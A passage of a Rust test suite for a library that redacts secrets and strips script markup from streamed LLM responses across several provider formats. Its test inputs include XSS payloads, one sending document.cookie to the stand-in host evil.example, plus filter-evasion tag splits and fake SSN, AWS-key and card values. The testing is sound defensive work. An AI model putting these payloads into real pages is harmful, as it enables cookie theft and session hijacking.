                            json!({"type":"content_block_start","index":0,"content_block":{"type":"thinking","thinking":"the SSN is 536-90"}}),
                        ),
                        named("ping", json!({"type":"ping"})),
                        named(
                            "content_block_delta",
                            json!({"type":"content_block_delta","index":0,"delta":{"type":"thinking_delta","thinking":"-4399 hmm"}}),
                        ),
                        named(
                            "content_block_delta",
                            json!({"type":"content_block_delta","index":0,"delta":{"type":"signature_delta","signature":"EqQBCgIYAhIM"}}),
                        ),
                        named(
                            "content_block_stop",
                            json!({"type":"content_block_stop","index":0}),
                        ),
                        named(
                            "content_block_start",
                            json!({"type":"content_block_start","index":1,"content_block":{"type":"text","text":"key AKIA4HBW"}}),
                        ),
                        named(
                            "content_block_delta",
                            json!({"type":"content_block_delta","index":1,"delta":{"type":"text_delta","text":"6E62M7NGFVGF"}}),
                        ),
                        named(
                            "content_block_delta",
                            json!({"type":"content_block_delta","index":1,"delta":{"type":"citations_delta","citation":{"type":"char_location","cited_text":"card 4111111111111111"}}}),
                        ),
                        named(
                            "content_block_stop",
                            json!({"type":"content_block_stop","index":1}),
                        ),
                        named(
                            "content_block_start",
                            json!({"type":"content_block_start","index":2,"content_block":{"type":"tool_use","id":"t","name":"f","input":{"ssn":"SSN 536-90-4399"}}}),
                        ),
                        named(
                            "content_block_delta",
                            json!({"type":"content_block_delta","index":2,"delta":{"type":"input_json_delta","partial_json":"{\"card\":\"41111111"}}),
                        ),
                        named(
                            "content_block_delta",
                            json!({"type":"content_block_delta","index":2,"delta":{"type":"input_json_delta","partial_json":"11111111\"}"}}),
                        ),
                        named(
                            "content_block_stop",
                            json!({"type":"content_block_stop","index":2}),
                        ),
                        named("message_stop", json!({"type":"message_stop"})),
                    ],
                    "\n",
                ),
            ),
            (
                "gemini: every candidate, and function-call arguments",
                gemini,
                framed(
                    &[
                        j(
                            json!({"candidates":[{"index":0,"content":{"parts":[{"text":"SSN 536-90"}]}},{"index":1,"content":{"parts":[{"text":"key AKIA4HBW"}]}}]}),
                        ),
                        j(json!({"usageMetadata":{"promptTokenCount":3}})),
                        j(
                            json!({"candidates":[{"index":0,"content":{"parts":[{"text":"-4399 ok"}]}},{"index":1,"content":{"parts":[{"text":"6E62M7NGFVGF "}]}}]}),
                        ),
                        j(
                            json!({"candidates":[{"index":1,"content":{"parts":[{"text":"card 41111111"}]}}]}),
                        ),
                        j(
                            json!({"candidates":[{"index":1,"content":{"parts":[{"text":"11111111 x"}]}},{"index":0,"content":{"parts":[{"text":" fine"}]}}]}),
                        ),
                        j(
                            json!({"candidates":[{"index":0,"content":{"parts":[{"functionCall":{"name":"f","args":{"card":"4111111111111111"}}}]},"finishReason":"STOP"}]}),
                        ),
                    ],
                    "\n",
                ),
            ),
            (
                "cohere: text per index, tool call seed and deltas",
                cohere,
                framed(
                    &[
                        named(
                            "content-start",
                            json!({"type":"content-start","index":1,"delta":{"message":{"content":{"type":"text","text":"SSN 536-90"}}}}),
                        ),
                        named(
                            "content-delta",
                            json!({"type":"content-delta","index":1,"delta":{"message":{"content":{"text":"-4399 ok"}}}}),
                        ),
                        named("content-end", json!({"type":"content-end","index":1})),
                        named(
                            "tool-plan-delta",
                            json!({"type":"tool-plan-delta","delta":{"message":{"tool_plan":"key AKIA4HBW"}}}),
                        ),
                        named(
                            "tool-plan-delta",
                            json!({"type":"tool-plan-delta","delta":{"message":{"tool_plan":"6E62M7NGFVGF"}}}),
                        ),
                        named(
                            "tool-call-start",
                            json!({"type":"tool-call-start","index":0,"delta":{"message":{"tool_calls":{"id":"t","type":"function","function":{"name":"f","arguments":"{\"c\":\"41111"}}}}}),
                        ),
                        named(
                            "tool-call-delta",
                            json!({"type":"tool-call-delta","index":0,"delta":{"message":{"tool_calls":{"function":{"arguments":"11111111111\"}"}}}}}),
                        ),
                        named("tool-call-end", json!({"type":"tool-call-end","index":0})),
                        named("message-end", json!({"type":"message-end"})),
                    ],
                    "\n",
                ),
            ),
        ]
    }

    #[test]
    fn every_text_field_is_its_own_channel() {
        for (case, provider, input) in channel_cases() {
            check(case, provider, &input);
            let crlf = String::from_utf8(input).unwrap().replace('\n', "\r");
            check(&format!("{case}, CR line ends"), provider, crlf.as_bytes());
        }
    }

    #[test]
    fn a_finished_choice_does_not_cut_another_choices_text() {
        use serde_json::json;
        let chunk = |choices: Value| (None, json!({"choices":choices}).to_string());
        let input = framed(
            &[
                chunk(json!([{"index":1,"delta":{"content":"key AKIA4HBW"}}])),
                chunk(json!([{"index":0,"delta":{},"finish_reason":"stop"}])),
                chunk(json!([{"index":1,"delta":{"content":"6E62M7NGFVGF"}}])),
                chunk(json!([{"index":1,"delta":{},"finish_reason":"stop"}])),
            ],
            "\n",
        );
        let out = check("choice 0 ends mid-value of choice 1", openai, &input);
        assert!(out.contains("[REDACTED:SECRET]"), "{out}");
        assert_eq!(
            joined(&out, "/choices/0/delta/content"),
            "key [REDACTED:SECRET]"
        );
    }
}

#[test]
fn script_markup_is_removed_mid_stream_and_shown_code_is_not() {
    let hostile = [
        "Here is your link: [claim](java",
        "script:fetch('//evil.example/'+document.cookie)) and ",
        "<a href=\"java&#x09;script:steal()\">this</a> and <img src=x on",
        "error=\"fetch('//evil.example')\"> and <scr",
        "ipt>alert(1)</script> done.",
    ];
    let input = openai_events(&hostile);
    for cut in (0..input.len()).step_by(7) {
        let (r, out) = in_two(&input, cut);
        let text = texts(&out);
        for gone in ["javascript:fetch", "script:steal", "onerror", "<script>"] {
            assert!(!text.contains(gone), "cut {cut}: {gone} left in {text}");
        }
        assert!(
            text.starts_with("Here is your link: ") && text.ends_with("done."),
            "{text}"
        );
        let ids: Vec<&str> = r.findings().iter().map(|f| f.detector).collect();
        for id in [
            "script_link",
            "script_url_attribute",
            "event_handler",
            "script_tag",
        ] {
            assert!(ids.contains(&id), "cut {cut}: {ids:?}");
        }
    }
    // a coding answer shows the same markup in code: it passes unchanged
    let shown = [
        "Add a handler:\n\n```html\n<button onclick=\"go()\">Go</button>\n<scr",
        "ipt src=\"app.js\"></script>\n```\n\nor write `<a href=\"javascript:void(0)\">` ",
        "inline.",
    ];
    let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
    let text = texts(rewrite(&mut r, &openai_events(&shown)));
    assert_eq!(text, shown.concat());
    assert!(r.findings().is_empty(), "{:?}", r.findings());
}

#[test]
fn markup_in_tool_call_arguments_is_data_and_passes() {
    // an agent writing a web page through a tool: its arguments are not rendered
    let mut s = tool_call_events(&[
        "{\"path\": \"index.html\", \"body\": \"<button onclick=\\\"go()\\\">Go</button>",
        "<script src=\\\"app.js\\\"></script><a href=\\\"javascript:void(0)\\\">x</a>\"}",
    ]);
    s.push_str("data: [DONE]\n\n");
    let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
    let out = rewrite(&mut r, s.as_bytes());
    let args = joined(&out, "/choices/0/delta/tool_calls/0/function/arguments");
    assert_eq!(
        args,
        "{\"path\": \"index.html\", \"body\": \"<button onclick=\\\"go()\\\">Go</button><script src=\\\"app.js\\\"></script><a href=\\\"javascript:void(0)\\\">x</a>\"}"
    );
    assert!(r.findings().is_empty(), "{:?}", r.findings());
}

#[test]
fn removed_markup_does_not_join_into_new_markup() {
    // under the remove strategy, taking out the inner tag must not rebuild the outer one
    let rules = StreamRules::new(
        || Redactor::new(Strategy::Remove, HashKey::new([7; 32])),
        |_| false,
    );
    for hostile in [
        "x <scr<script>ipt>alert(1)</script> y",
        "x <img/src=x/on<script>error=alert(1)> y",
        "x <svg<script>onload=alert(1)> y",
        "x <img src=x<script>onerror=alert(1)> y",
    ] {
        let mut r = with_rules(Box::new(rampart_llm::openai::OpenAi), rules.clone());
        let text = texts(rewrite(&mut r, &openai_events(&[hostile])));
        assert!(!text.contains("<script>"), "{text}");
        // no attribute starts with `on` (after white space, `/` or a quote, as a browser reads)
        let b = text.as_bytes();
        let handler = (1..b.len()).any(|i| {
            matches!(b[i - 1], b' ' | b'\t' | b'\n' | b'/' | b'"' | b'\'')
                && text[i..].starts_with("on")
                && text[i + 2..]
                    .split('=')
                    .next()
                    .is_some_and(|n| n.len() >= 3 && n.bytes().all(|c| c.is_ascii_alphabetic()))
        });
        assert!(!handler, "{text}");
    }
}

#[test]
fn markup_in_an_anthropic_tool_input_is_data_and_passes() {
    let events = [
        r#"{"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"t","name":"write","input":{}}}"#.to_owned(),
        serde_json::json!({"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"body\": \"<button onclick=\\\"go()\\\">"}}).to_string(),
        serde_json::json!({"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"Go</button>\"}"}}).to_string(),
        r#"{"type":"content_block_stop","index":1}"#.to_owned(),
        r#"{"type":"message_stop"}"#.to_owned(),
    ];
    let input: String = events
        .iter()
        .map(|e| {
            let kind = serde_json::from_str::<Value>(e).unwrap()["type"]
                .as_str()
                .unwrap()
                .to_owned();
            format!("event: {kind}\ndata: {e}\n\n")
        })
        .collect();
    let mut r = rewriter(Box::new(rampart_llm::anthropic::Anthropic));
    let out = rewrite(&mut r, input.as_bytes());
    let json: String = joined(&out, "/delta/partial_json");
    assert_eq!(
        json,
        "{\"body\": \"<button onclick=\\\"go()\\\">Go</button>\"}"
    );
    assert!(r.findings().is_empty(), "{:?}", r.findings());
}
